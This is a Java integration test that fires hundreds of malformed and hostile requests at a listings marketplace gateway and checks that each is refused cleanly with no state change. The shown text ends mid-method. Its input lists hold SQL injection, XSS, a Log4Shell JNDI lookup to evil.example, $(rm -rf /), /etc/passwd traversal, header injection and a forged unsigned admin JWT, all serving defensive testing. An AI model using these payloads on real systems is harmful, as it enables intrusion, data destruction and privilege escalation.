package io.msmeatlas.launcher;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.OffsetSpec;
import org.apache.kafka.common.TopicPartition;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Hundreds of malformed and hostile requests through the gateway, at every endpoint: wrong types,
 * missing and extra fields, huge strings and bodies, deep nesting, negative and absurd numbers,
 * invalid UTF-8, SQL and script injection, path traversal in ids, duplicate keys, wrong content
 * types, forged identity. Each must be refused with a 4xx problem+json that shows no stack trace or
 * internal detail, and afterwards the event stores, the topics and the read model are exactly as
 * they were.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputIT {

    private static final String PASSWORD = "Correct-horse-42-battery";
    private static final JsonMapper JSON = JsonMapper.builder().build();
    /** What a client must never see in an answer: traces, class names, SQL, server internals. */
    private static final Pattern INTERNALS = Pattern.compile(
            "\\tat |Exception|java\\.|javax\\.|jakarta\\.|org\\.springframework|org\\.apache|io\\.msmeatlas|"
                    + "PSQL|SQLState|syntax error at|Caused by|stack", Pattern.CASE_INSENSITIVE);
    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE listings.domain_event_entry; --", "\" OR 1=1 --",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
            "{{7*7}}", "%00", "../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd", "\u0000", "\uFEFF\u202E",
            "$(rm -rf /)", "admin'--");

    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private Platform platform;
    private String seller;
    private String buyer;
    private String admin;
    private String otherSeller;
    private String draft;
    private String published;
    private Snapshot before;

    @BeforeAll
    void prepare() throws Exception {
        platform = SharedPlatform.get();
        seller = signUp("SELLER");
        buyer = signUp("BUYER");
        otherSeller = signUp("SELLER");
        admin = login(PlatformConfig.ADMIN_EMAIL, platform.adminPassword());
        draft = create();
        published = create();
        assertThat(send(new Hostile("submit", "POST", "/api/msme/listings/" + published + "/submit", seller))
                .statusCode()).isEqualTo(200);
        HttpResponse<String> approved = send(new Hostile("approve", "POST", "/api/msme/listings/" + published
                + "/approve", admin));
        assertThat(approved.statusCode()).isEqualTo(200);
        String token = approved.headers().firstValue("X-Consistency-Token").orElseThrow();
        // The read model has caught up with every event written above before the snapshot is taken.
        assertThat(send(new Hostile("read", "GET", "/api/msme/listings/" + published, admin)
                .header("X-Consistency-Token", token)).headers().firstValue("X-Consistency")).isEmpty();
        // The workers react to those events on their own time (valuations, matches): wait until they are
        // done, i.e. both listings are valued and two snapshots a moment apart agree.
        await().atMost(Duration.ofSeconds(90)).until(() -> valued(draft) && valued(published));
        before = await().atMost(Duration.ofSeconds(90)).pollDelay(Duration.ofSeconds(2)).until(this::snapshot,
                new java.util.function.Predicate<Snapshot>() {
                    private Snapshot previous;

                    @Override
                    public boolean test(Snapshot current) {
                        boolean stable = current.equals(previous);
                        previous = current;
                        return stable;
                    }
                });
    }

    @AfterAll
    void nothing_changed() throws Exception {
        if (before != null) {
            Snapshot after = snapshot();
            assertThat(after.eventStores()).as("event stores").isEqualTo(before.eventStores());
            assertThat(after.topicEnds()).as("topic end offsets").isEqualTo(before.topicEnds());
            assertThat(after.readModel()).as("listing read model").isEqualTo(before.readModel());
        }
    }

    @TestFactory
    Stream<DynamicTest> every_hostile_request_is_refused_with_a_clean_4xx_problem() {
        List<Hostile> requests = hostileRequests();
        assertThat(requests).hasSizeGreaterThanOrEqualTo(500);
        return requests.stream().map(request -> DynamicTest.dynamicTest(request.name(), () -> {
            HttpResponse<String> response = send(request);
            assertThat(response.statusCode()).as(request.name() + " → " + response.body()).isBetween(400, 499);
            assertThat(response.headers().firstValue("Content-Type")).as(request.name())
                    .hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
            assertThat(response.body()).as(request.name()).doesNotContainPattern(INTERNALS);
            JsonNode problem = JSON.readTree(response.body());
            assertThat(problem.get("status").asInt()).isEqualTo(response.statusCode());
        }));
    }

    // ------------------------------------------------------------------ the requests

    private List<Hostile> hostileRequests() {
        List<Hostile> all = new ArrayList<>();
        all.addAll(createListing());
        all.addAll(updateListing());
        all.addAll(transitions());
        all.addAll(queries());
        all.addAll(auth());
        all.addAll(identity());
        all.addAll(valuation());
        all.addAll(matchmaking());
        all.addAll(notifications());
        return all;
    }

    /** Drafts that must not be stored: every field wrong in its own way, and bodies wrong as a whole. */
    private List<Hostile> createListing() {
        List<Hostile> requests = new ArrayList<>();
        String path = "/api/msme/listings";
        Map<String, List<Object>> wrongValues = new LinkedHashMap<>();
        wrongValues.put("title", List.of(123, true, List.of("a"), Map.of(), "", " ", "x".repeat(100_000)));
        wrongValues.put("legalName", List.of(7, "", "y".repeat(5_000)));
        wrongValues.put("contact", List.of("anil", 3, List.of(), Map.of("name", "A"), Map.of("name", "A", "email", "no")));
        wrongValues.put("sectorCode", List.of("04", "34", "Z", "C99", 25, "", "25; DROP TABLE x"));
        wrongValues.put("state", List.of("Atlantis", 1, "", "maharashtra' OR '1'='1"));
        wrongValues.put("city", List.of(5, "", "z".repeat(5_000)));
        wrongValues.put("yearEstablished", List.of(-1, 0, 1066, 99999, 1e300, "2009", 2009.5, Long.MAX_VALUE));
        wrongValues.put("employees", List.of(-5, "many", 1.5, 1e20));
        wrongValues.put("legalStructure", List.of("EMPIRE", 1, "", "private_limited; --"));
        wrongValues.put("plantAndMachineryInvestment", List.of("-1", "NaN", "Infinity", "1e400", "1,000",
                "12345678901234567890.00", "0.001", true, List.of(1)));
        wrongValues.put("financials", List.of("x", List.of(), List.of(Map.of("fiscalYear", 2025)),
                List.of(Map.of("fiscalYear", 2025, "revenue", "-1")),
                List.of(Map.of("fiscalYear", 3000, "revenue", "1")),
                List.of(Map.of("fiscalYear", 2025, "revenue", "1"), Map.of("fiscalYear", 2025, "revenue", "2")),
                List.of(Map.of("fiscalYear", 2025, "revenue", "10", "exports", "20")),
                List.of(Map.of("fiscalYear", 2025, "revenue", "1"), Map.of("fiscalYear", 2024, "revenue", "1"),
                        Map.of("fiscalYear", 2023, "revenue", "1"), Map.of("fiscalYear", 2022, "revenue", "1"))));
        wrongValues.put("assets", List.of("-0.01", "abc", Double.MAX_VALUE));
        wrongValues.put("debt", List.of("-100", Map.of()));
        wrongValues.put("askingPrice", List.of("0", "-65000000", "9".repeat(40), "NaN", 0, -1, false));
        wrongValues.put("currency", List.of("USD", "", 356, "₹"));
        wrongValues.put("dealType", List.of("STEAL", "", 1, "full sale"));
        wrongValues.put("reasonForSale", List.of(12, "r".repeat(20_000)));
        wrongValues.put("highlights", List.of("one", List.of(""), List.of(1, 2), List.of("h".repeat(500)),
                java.util.Collections.nCopies(50, "highlight")));
        wrongValues.put("description", List.of(1, "d".repeat(60_000)));
        wrongValues.forEach((field, values) -> {
            for (Object value : values) {
                Map<String, Object> body = validDraft();
                body.put(field, value);
                requests.add(new Hostile("create: " + field + " = " + describe(value), "POST", path, seller)
                        .json(body));
            }
        });
        for (String field : validDraft().keySet()) {
            Map<String, Object> body = validDraft();
            Object removed = body.remove(field);
            if (List.of("title", "legalName", "contact", "sectorCode", "state", "city", "plantAndMachineryInvestment",
                    "financials", "askingPrice", "currency", "dealType").contains(field)) {
                requests.add(new Hostile("create without " + field, "POST", path, seller).json(body));
            } else {
                // An optional field left out is fine, so make the body wrong another way as well.
                body.put("askingPrice", "-1");
                requests.add(new Hostile("create without " + field + " (and a negative price)", "POST", path, seller)
                        .json(body));
            }
            assertThat(removed).isNotNull();
        }
        for (String injection : INJECTIONS) {
            Map<String, Object> body = validDraft();
            body.put("title", injection);
            body.put("state", injection);
            requests.add(new Hostile("create: injection in a free field and the state: " + describe(injection), "POST",
                    path, seller).json(body));
            Map<String, Object> unknown = validDraft();
            unknown.put(injection, "x");
            requests.add(new Hostile("create: unknown field named " + describe(injection), "POST", path, seller)
                    .json(unknown));
        }
        Map<String, Object> extra = validDraft();
        extra.put("sellerId", "someone-else");
        requests.add(new Hostile("create: extra field sellerId", "POST", path, seller).json(extra));
        extra = validDraft();
        extra.put("status", "PUBLISHED");
        requests.add(new Hostile("create: extra field status", "POST", path, seller).json(extra));
        requests.add(new Hostile("create: empty body", "POST", path, seller).body("application/json", ""));
        requests.add(new Hostile("create: JSON null", "POST", path, seller).body("application/json", "null"));
        requests.add(new Hostile("create: JSON array", "POST", path, seller).body("application/json", "[]"));
        requests.add(new Hostile("create: JSON string", "POST", path, seller).body("application/json", "\"x\""));
        requests.add(new Hostile("create: truncated JSON", "POST", path, seller).body("application/json",
                toJson(validDraft()).substring(0, 40)));
        requests.add(new Hostile("create: trailing garbage", "POST", path, seller).body("application/json",
                toJson(validDraft()) + "}}}"));
        requests.add(new Hostile("create: two documents", "POST", path, seller).body("application/json",
                toJson(validDraft()) + toJson(validDraft())));
        requests.add(new Hostile("create: duplicate key", "POST", path, seller).body("application/json",
                toJson(validDraft()).replaceFirst("\\{", "{\"askingPrice\":\"1\",")));
        requests.add(new Hostile("create: duplicate key with a bad value last", "POST", path, seller)
                .body("application/json", toJson(validDraft()).replaceFirst("}$", ",\"askingPrice\":\"-5\"}")));
        requests.add(new Hostile("create: comments in JSON", "POST", path, seller).body("application/json",
                "/* hi */" + toJson(validDraft())));
        requests.add(new Hostile("create: single quotes", "POST", path, seller).body("application/json",
                toJson(validDraft()).replace('"', '\'')));
        for (int depth : new int[] {100, 1_000, 20_000}) {
            requests.add(new Hostile("create: nesting " + depth + " deep", "POST", path, seller).body("application/json",
                    "{\"title\":" + "[".repeat(depth) + "]".repeat(depth) + "}"));
            requests.add(new Hostile("create: objects nested " + depth + " deep", "POST", path, seller)
                    .body("application/json", "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)));
        }
        requests.add(new Hostile("create: 2 MB body", "POST", path, seller).body("application/json",
                "{\"title\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}"));
        requests.add(new Hostile("create: 5 MB of spaces", "POST", path, seller).body("application/json",
                " ".repeat(5 * 1024 * 1024) + "{}"));
        requests.add(new Hostile("create: huge number", "POST", path, seller).body("application/json",
                toJson(validDraft()).replace("\"employees\":42", "\"employees\":" + "9".repeat(5_000))));
        requests.add(new Hostile("create: huge exponent", "POST", path, seller).body("application/json",
                toJson(validDraft()).replace("\"employees\":42", "\"employees\":1e999999999")));
        requests.add(new Hostile("create: invalid UTF-8", "POST", path, seller).bytes("application/json",
                invalidUtf8(toJson(validDraft()))));
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/octet-stream", "application/json-patch+json",
                "text/html", "")) {
            requests.add(new Hostile("create: content type '" + type + "'", "POST", path, seller)
                    .body(type, type.startsWith("application/x-www") ? "title=a&askingPrice=1" : toJson(validDraft())));
        }
        return requests;
    }

    private List<Hostile> updateListing() {
        List<Hostile> requests = new ArrayList<>();
        String path = "/api/msme/listings/" + draft;
        List<String> bodies = List.of("{}", "{\"title\":null}", "{\"askingPrice\":\"-1\"}", "{\"askingPrice\":\"abc\"}",
                "{\"title\":5}", "{\"financials\":[]}", "{\"contact\":{\"email\":\"not-an-email\"}}",
                "{\"sectorCode\":\"00\"}", "{\"state\":\"Narnia\"}", "{\"currency\":\"EUR\"}", "{\"id\":\"x\"}",
                "{\"sellerId\":\"other\"}", "{\"version\":99}", "{\"employees\":-1}", "[]", "null", "\"x\"",
                "{\"title\":\"a\",\"title\":\"b\"}", "{\"title\":" + "[".repeat(5000) + "]".repeat(5000) + "}",
                "{\"highlights\":\"" + "h".repeat(300) + "\"}");
        for (String body : bodies) {
            requests.add(new Hostile("update: " + describe(body), "PATCH", path, seller)
                    .body("application/merge-patch+json", body));
        }
        for (String ifMatch : List.of("\"999\"", "W/\"1\"", "1", "\"1\", \"2\"", "\"abc\"", "\"-1\"", "\"" + "9".repeat(30) + "\"")) {
            requests.add(new Hostile("update: If-Match " + ifMatch, "PATCH", path, seller)
                    .body("application/json", "{\"title\":\"New title\"}").header("If-Match", ifMatch));
        }
        requests.add(new Hostile("update: by another seller", "PATCH", path, otherSeller)
                .body("application/json", "{\"title\":\"Mine now\"}"));
        requests.add(new Hostile("update: by a buyer", "PATCH", path, buyer).body("application/json", "{\"title\":\"x\"}"));
        requests.add(new Hostile("update: by an admin", "PATCH", path, admin).body("application/json", "{\"title\":\"x\"}"));
        requests.add(new Hostile("update: invalid UTF-8", "PATCH", path, seller).bytes("application/json",
                invalidUtf8("{\"title\":\"Café\"}")));
        requests.add(new Hostile("update: text/plain", "PATCH", path, seller).body("text/plain", "{\"title\":\"x\"}"));
        for (String id : hostileIds()) {
            requests.add(new Hostile("update: id " + describe(id), "PATCH", "/api/msme/listings/" + id, seller)
                    .body("application/json", "{\"title\":\"x\"}"));
        }
        return requests;
    }

    private List<Hostile> transitions() {
        List<Hostile> requests = new ArrayList<>();
        Map<String, String> owners = Map.of("submit", seller, "publish", seller, "under-offer", seller,
                "return-to-market", seller, "sold", seller, "withdraw", seller, "approve", admin, "reject", admin,
                "suspend", admin);
        owners.forEach((action, owner) -> {
            for (String id : hostileIds()) {
                requests.add(new Hostile(action + ": id " + describe(id), "POST", "/api/msme/listings/" + id + "/" + action,
                        owner));
            }
            // Wrong role on a real listing.
            String wrong = owner.equals(admin) ? seller : buyer;
            requests.add(new Hostile(action + " by the wrong role", "POST", "/api/msme/listings/" + published + "/"
                    + action, wrong));
            requests.add(new Hostile(action + " with a stale If-Match", "POST", "/api/msme/listings/" + published + "/"
                    + action, owner).header("If-Match", "\"1\""));
        });
        // Transitions a listing's state does not allow, and reasons that are not.
        requests.add(new Hostile("approve a draft", "POST", "/api/msme/listings/" + draft + "/approve", admin));
        requests.add(new Hostile("sell a draft", "POST", "/api/msme/listings/" + draft + "/sold", seller));
        requests.add(new Hostile("mark a draft under offer", "POST", "/api/msme/listings/" + draft + "/under-offer",
                seller));
        for (String body : List.of("{}", "{\"reason\":\"\"}", "{\"reason\":\"   \"}", "{\"reason\":5}",
                "{\"reason\":\"" + "r".repeat(600) + "\"}", "{\"reason\":\"ok\",\"extra\":1}", "[1]", "garbage")) {
            requests.add(new Hostile("reject with " + describe(body), "POST", "/api/msme/listings/" + draft + "/reject",
                    admin).body("application/json", body));
            requests.add(new Hostile("suspend with " + describe(body), "POST", "/api/msme/listings/" + published
                    + "/suspend", admin).body("application/json", body));
        }
        for (String body : List.of("{\"reason\":5}", "{\"reason\":\"" + "r".repeat(600) + "\"}", "{\"why\":\"x\"}", "[]")) {
            requests.add(new Hostile("withdraw with " + describe(body), "POST", "/api/msme/listings/" + published
                    + "/withdraw", seller).body("application/json", body));
        }
        requests.add(new Hostile("DELETE a listing", "DELETE", "/api/msme/listings/" + published, admin));
        requests.add(new Hostile("PUT a listing", "PUT", "/api/msme/listings/" + published, seller)
                .json(validDraft()));
        requests.add(new Hostile("unknown action", "POST", "/api/msme/listings/" + published + "/teleport", seller));
        return requests;
    }

    private List<Hostile> queries() {
        List<Hostile> requests = new ArrayList<>();
        Map<String, List<String>> wrongParameters = new LinkedHashMap<>();
        wrongParameters.put("sector", List.of("ZZ", "1", "100", "C25"));
        wrongParameters.put("classification", List.of("HUGE", "1"));
        wrongParameters.put("minPrice", List.of("-1", "abc", "1e5", "NaN", "9".repeat(50)));
        wrongParameters.put("maxPrice", List.of("-5", "1,000"));
        wrongParameters.put("minRevenue", List.of("x", "-1"));
        wrongParameters.put("minEbitda", List.of("--5", "1e3"));
        wrongParameters.put("dealType", List.of("STEAL"));
        wrongParameters.put("status", List.of("DRAFT", "SUBMITTED", "WITHDRAWN", "ANY"));
        wrongParameters.put("sort", List.of("random", "price", "title_asc", "1"));
        wrongParameters.put("cursor", List.of("abc", "Yzk=", "%00", "YzF8TkVXRVNUfHh8eQ"));
        wrongParameters.put("limit", List.of("0", "-1", "101", "1e3", "abc", "99999999999"));
        wrongParameters.put("q", List.of("q".repeat(300), "!!! ???"));
        wrongParameters.put("state", List.of("s".repeat(150)));
        wrongParameters.forEach((parameter, values) -> {
            for (String value : values) {
                requests.add(new Hostile("search: " + parameter + " = " + describe(value), "GET",
                        "/api/msme/listings?" + parameter + "=" + encode(value), buyer));
            }
        });
        requests.add(new Hostile("search: min above max price", "GET", "/api/msme/listings?minPrice=10&maxPrice=5", buyer));
        requests.add(new Hostile("search: cursor of another sort", "GET", "/api/msme/listings?sort=price_asc&cursor="
                + cursorOfNewest(), buyer));
        for (String injection : INJECTIONS) {
            requests.add(new Hostile("search: injection in sort " + describe(injection), "GET", "/api/msme/listings?sort="
                    + encode(injection), buyer));
            requests.add(new Hostile("read: consistency token " + describe(injection), "GET", "/api/msme/listings/"
                    + published, buyer).header("X-Consistency-Token", injection.replaceAll("[^\\x20-\\x7e]", "?")));
        }
        for (String id : hostileIds()) {
            requests.add(new Hostile("read: id " + describe(id), "GET", "/api/msme/listings/" + id, buyer));
        }
        requests.add(new Hostile("read: another seller's draft", "GET", "/api/msme/listings/" + draft, buyer));
        requests.add(new Hostile("mine as a buyer", "GET", "/api/msme/listings/mine", buyer));
        requests.add(new Hostile("mine: status garbage", "GET", "/api/msme/listings/mine?status=EVERYTHING", seller));
        requests.add(new Hostile("mine: limit garbage", "GET", "/api/msme/listings/mine?limit=-3", seller));
        requests.add(new Hostile("moderation queue as a seller", "GET", "/api/msme/moderation/queue", seller));
        requests.add(new Hostile("moderation queue: cursor garbage", "GET", "/api/msme/moderation/queue?cursor=zzz", admin));
        requests.add(new Hostile("read: URL of 20 KB", "GET", "/api/msme/listings?q=" + "a".repeat(20_000), buyer));
        return requests;
    }

    private List<Hostile> auth() {
        List<Hostile> requests = new ArrayList<>();
        Map<String, Object> valid = new LinkedHashMap<>();
        valid.put("email", "new-" + UUID.randomUUID() + "@example.in");
        valid.put("password", PASSWORD);
        valid.put("displayName", "Hostile test");
        valid.put("role", "BUYER");
        Map<String, List<Object>> wrongValues = new LinkedHashMap<>();
        wrongValues.put("email", new ArrayList<>(List.of("", "no-at-sign", "a@", "@b.in", 5, "x".repeat(400) + "@e.in",
                "a@b.in\r\nBcc: evil@x.in")));
        INJECTIONS.forEach(wrongValues.get("email")::add);
        wrongValues.put("password", List.of("", "short1", "alllettersnodigits", "1234567890123", 12345678901L,
                "p".repeat(10_000) + "1"));
        wrongValues.put("displayName", List.of("", 3, "n".repeat(500)));
        wrongValues.put("role", List.of("ADMIN", "admin", "ROOT", "", 1, List.of("BUYER", "ADMIN")));
        wrongValues.forEach((field, values) -> {
            for (Object value : values) {
                Map<String, Object> body = new LinkedHashMap<>(valid);
                body.put("email", "new-" + UUID.randomUUID() + "@example.in");
                body.put(field, value);
                requests.add(new Hostile("register: " + field + " = " + describe(value), "POST", "/api/auth/register",
                        null).json(body));
            }
        });
        Map<String, Object> extra = new LinkedHashMap<>(valid);
        extra.put("roles", List.of("ADMIN"));
        requests.add(new Hostile("register: extra field roles", "POST", "/api/auth/register", null).json(extra));
        requests.add(new Hostile("register: existing email", "POST", "/api/auth/register", null).json(Map.of(
                "email", PlatformConfig.ADMIN_EMAIL.toUpperCase(Locale.ROOT), "password", PASSWORD,
                "displayName", "Not the admin", "role", "BUYER")));
        requests.add(new Hostile("register: not JSON", "POST", "/api/auth/register", null).body("application/json", "{"));
        requests.add(new Hostile("register: nested 10000", "POST", "/api/auth/register", null).body("application/json",
                "{\"email\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}"));
        String nobody = "nobody-" + UUID.randomUUID() + "@example.in";
        for (Object password : List.of("wrong-password-1", "", 1, List.of())) {
            requests.add(new Hostile("login: password " + describe(password), "POST", "/api/auth/login", null)
                    .json(Map.of("email", nobody, "password", password)));
        }
        // Few failed logins: auth locks an address out after 20 in 15 minutes, and every test here logs in from one.
        for (String injection : INJECTIONS.subList(0, 3)) {
            requests.add(new Hostile("login: email " + describe(injection), "POST", "/api/auth/login", null)
                    .json(Map.of("email", injection, "password", "x")));
        }
        for (String injection : INJECTIONS) {
            requests.add(new Hostile("refresh: token " + describe(injection), "POST", "/api/auth/refresh", null)
                    .json(Map.of("refreshToken", injection)));
        }
        requests.add(new Hostile("login: missing password", "POST", "/api/auth/login", null).json(Map.of("email", nobody)));
        requests.add(new Hostile("login: text/plain", "POST", "/api/auth/login", null).body("text/plain", "a"));
        requests.add(new Hostile("refresh: empty", "POST", "/api/auth/refresh", null).json(Map.of()));
        requests.add(new Hostile("refresh: 100 KB token", "POST", "/api/auth/refresh", null)
                .json(Map.of("refreshToken", "t".repeat(100_000))));
        requests.add(new Hostile("logout: unknown token", "POST", "/api/auth/logout", seller)
                .json(Map.of("refreshToken", 42)));
        requests.add(new Hostile("rotate keys as a seller", "POST", "/api/auth/keys/rotate", seller));
        requests.add(new Hostile("rotate keys anonymously", "POST", "/api/auth/keys/rotate", null));
        return requests;
    }

    /** Tokens and identity headers that try to be someone they are not. */
    private List<Hostile> identity() {
        List<Hostile> requests = new ArrayList<>();
        List<String[]> endpoints = List.of(new String[] {"POST", "/api/msme/listings/" + published + "/approve"},
                new String[] {"GET", "/api/msme/moderation/queue"}, new String[] {"GET", "/api/auth/me"},
                new String[] {"POST", "/api/auth/keys/rotate"}, new String[] {"GET", "/api/msme/listings/" + draft},
                new String[] {"POST", "/api/msme/listings/" + published + "/withdraw"});
        for (String[] endpoint : endpoints) {
            String what = endpoint[0] + " " + endpoint[1].replace(published, "{published}").replace(draft, "{draft}");
            requests.add(new Hostile(what + ": forged admin headers, no token", endpoint[0], endpoint[1], null)
                    .header("X-User-Id", "admin").header("X-User-Roles", "ADMIN"));
            if (!endpoint[1].equals("/api/auth/me")) {
                // (Any signed-in user may ask who they are: there the forged headers just have no effect.)
                requests.add(new Hostile(what + ": forged admin headers on a buyer's token", endpoint[0], endpoint[1],
                        buyer).header("X-User-Id", "admin").header("x-user-roles", "ADMIN,SELLER"));
            }
            for (String authorization : List.of("Bearer", "Bearer ", "Bearer " + "a".repeat(9_000), "Basic YWRtaW46YWRtaW4=",
                    "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInJvbGVzIjpbIkFETUlOIl19.",
                    "Bearer " + buyer.substring(0, buyer.length() - 4) + "AAAA", "bearer " + admin + "x",
                    "Bearer " + admin + " " + admin)) {
                requests.add(new Hostile(what + ": Authorization " + describe(authorization), endpoint[0], endpoint[1],
                        null).header("Authorization", authorization));
            }
        }
        requests.add(new Hostile("direct health: traversal", "GET", "/direct/..%2F..%2Fapi%2Fauth/health", null));
        requests.add(new Hostile("direct health: unknown service", "GET", "/direct/etc-passwd/health", null));
        requests.add(new Hostile("no such route", "GET", "/api/nothing/here", buyer));
        requests.add(new Hostile("actuator through the gateway", "GET", "/actuator/env", buyer));
        return requests;
    }

    private List<Hostile> valuation() {
        List<Hostile> requests = new ArrayList<>();
        String estimate = "/api/valuation/estimate";
        for (String body : List.of("{}", "[]", "null", "{\"sectorCode\":5}", "{\"financials\":\"x\"}",
                "{\"sectorCode\":\"25\",\"state\":\"Maharashtra\",\"financials\":[{\"fiscalYear\":2025,\"revenue\":\"-1\"}]}",
                "{\"sectorCode\":\"25\",\"employees\":1.5}", "{\"sectorCode\":\"25\",\"sectorCode\":\"26\"}",
                "{\"a\":" + "[".repeat(3000) + "]".repeat(3000) + "}", "{\"sectorCode\":\"" + "9".repeat(20_000) + "\"}")) {
            requests.add(new Hostile("estimate: " + describe(body), "POST", estimate, buyer).body("application/json", body));
        }
        requests.add(new Hostile("estimate: text/plain", "POST", estimate, buyer).body("text/plain", "value me"));
        requests.add(new Hostile("estimate: anonymous", "POST", estimate, null).body("application/json", "{}"));
        for (String id : hostileIds()) {
            requests.add(new Hostile("valuation: id " + describe(id), "GET", "/api/valuation/listings/" + id, seller));
            requests.add(new Hostile("valuation history: id " + describe(id), "GET", "/api/valuation/listings/" + id
                    + "/history", seller));
        }
        requests.add(new Hostile("override as a seller", "POST", "/api/valuation/listings/" + published + "/override",
                seller).json(Map.of("value", "1", "note", "mine")));
        for (String body : List.of("{}", "{\"value\":\"-5\",\"note\":\"x\"}", "{\"value\":\"abc\",\"note\":\"x\"}",
                "{\"value\":5,\"note\":\"\"}", "{\"value\":\"1\",\"note\":\"" + "n".repeat(5000) + "\"}",
                "{\"value\":\"1\",\"note\":\"x\",\"extra\":1}")) {
            requests.add(new Hostile("override with " + describe(body), "POST", "/api/valuation/listings/" + published
                    + "/override", admin).body("application/json", body));
        }
        return requests;
    }

    private List<Hostile> matchmaking() {
        List<Hostile> requests = new ArrayList<>();
        String profiles = "/api/matchmaking/profiles";
        String criteria = "{\"sectors\":[\"25\"],\"states\":[\"Maharashtra\"],\"budgetMax\":\"50000000\"}";
        String contact = "{\"name\":\"Ravi\",\"email\":\"ravi@example.in\"}";
        for (String body : List.of("{}", "[]", "{\"name\":\"x\"}",
                "{\"name\":5,\"criteria\":" + criteria + ",\"contact\":" + contact + "}",
                "{\"name\":\"x\",\"criteria\":{\"sectors\":[\"ZZ\"],\"budgetMax\":\"1\"},\"contact\":" + contact + "}",
                "{\"name\":\"x\",\"criteria\":{\"budgetMin\":\"9\",\"budgetMax\":\"1\"},\"contact\":" + contact + "}",
                "{\"name\":\"x\",\"criteria\":{\"budgetMax\":\"-1\"},\"contact\":" + contact + "}",
                "{\"name\":\"x\",\"criteria\":" + criteria + ",\"contact\":{\"name\":\"R\",\"email\":\"no\"}}",
                "{\"name\":\"x\",\"criteria\":" + criteria + ",\"contact\":" + contact + ",\"buyerId\":\"other\"}",
                "{\"name\":\"x\",\"name\":\"y\",\"criteria\":" + criteria + ",\"contact\":" + contact + "}",
                "{\"name\":\"" + "n".repeat(500) + "\",\"criteria\":" + criteria + ",\"contact\":" + contact + "}")) {
            requests.add(new Hostile("profile: " + describe(body), "POST", profiles, buyer).body("application/json", body));
        }
        requests.add(new Hostile("profile by a seller", "POST", profiles, seller).body("application/json",
                "{\"name\":\"x\",\"criteria\":" + criteria + ",\"contact\":" + contact + "}"));
        for (String id : hostileIds()) {
            requests.add(new Hostile("profile update: id " + describe(id), "PUT", profiles + "/" + id, buyer)
                    .body("application/json", "{\"name\":\"x\",\"criteria\":" + criteria + ",\"contact\":" + contact + "}"));
            requests.add(new Hostile("interest: match " + describe(id), "POST", "/api/matchmaking/matches/" + id
                    + "/interest", buyer));
            requests.add(new Hostile("accept: match " + describe(id), "POST", "/api/matchmaking/matches/" + id
                    + "/accept", seller));
            requests.add(new Hostile("match: id " + describe(id), "GET", "/api/matchmaking/matches/" + id, buyer));
        }
        for (String query : List.of("limit=-1", "limit=abc", "cursor=zzz", "interest=MAYBE")) {
            requests.add(new Hostile("my matches: " + query, "GET", "/api/matchmaking/matches/mine?" + query, buyer));
        }
        requests.add(new Hostile("my matches as a seller", "GET", "/api/matchmaking/matches/mine", seller));
        requests.add(new Hostile("interests received as a buyer", "GET", "/api/matchmaking/interests/received", buyer));
        return requests;
    }

    private List<Hostile> notifications() {
        List<Hostile> requests = new ArrayList<>();
        for (String query : List.of("limit=0", "limit=abc", "limit=1000", "before=-1", "before=x", "unread=maybe")) {
            requests.add(new Hostile("inbox: " + query, "GET", "/api/notification/inbox?" + query, seller));
        }
        for (String id : List.of("abc", "-1", "99999999999999999999", "%00", "..%2F..")) {
            requests.add(new Hostile("mark read: id " + describe(id), "POST", "/api/notification/inbox/" + id + "/read",
                    seller));
        }
        for (String body : List.of("{}", "{\"inApp\":\"yes\"}", "{\"email\":1}", "[]", "{\"inApp\":true,\"inApp\":false}")) {
            requests.add(new Hostile("preference with " + describe(body), "PUT", "/api/notification/preferences/MATCH_FOUND",
                    buyer).body("application/json", body));
        }
        requests.add(new Hostile("preference of an unknown type", "PUT", "/api/notification/preferences/EVERYTHING", buyer)
                .body("application/json", "{\"inApp\":false}"));
        requests.add(new Hostile("inbox anonymously", "GET", "/api/notification/inbox", null));
        requests.add(new Hostile("stream anonymously", "GET", "/api/notification/stream", null));
        return requests;
    }

    private static List<String> hostileIds() {
        return List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2f", "..;", "%00", "x".repeat(5_000),
                "%27%20OR%20%271%27%3D%271", "%3Cscript%3E", "not-a-listing", "%E2%80%AE", "%FF%FE",
                UUID.randomUUID().toString());
    }

    // ------------------------------------------------------------------ state before and after

    private record Snapshot(Map<String, String> eventStores, Map<String, Long> topicEnds, String readModel) {
    }

    private Snapshot snapshot() throws Exception {
        return new Snapshot(eventStoreDigests(), topicEnds(), readModel());
    }

    /** A digest of every event store table (events, hash chains, outboxes) of every service schema. */
    private Map<String, String> eventStoreDigests() throws SQLException {
        Map<String, String> digests = new TreeMap<>();
        try (Connection db = DriverManager.getConnection(platform.config().jdbcUrl(), "postgres", "")) {
            List<String> tables = new ArrayList<>();
            try (ResultSet rows = db.createStatement().executeQuery("select table_schema || '.' || table_name "
